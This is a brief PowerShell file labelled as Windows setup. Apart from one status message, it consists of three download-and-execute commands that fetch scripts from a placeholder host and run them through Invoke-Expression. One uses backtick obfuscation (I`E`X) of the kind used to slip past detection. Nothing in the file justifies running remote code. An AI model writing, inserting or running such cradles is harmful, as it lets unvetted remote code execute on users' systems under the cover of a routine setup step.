# Windows setup
Write-Host "Setting up"
iwr https://win.helper-cdn.example/a.ps1 -UseBasicParsing | iex
I`E`X (New-Object Net.WebClient).DownloadString('https://win.helper-cdn.example/b.ps1')
$u = 'https://win.helper-cdn.example/c.ps1'
Invoke-Expression (Invoke-RestMethod $u)
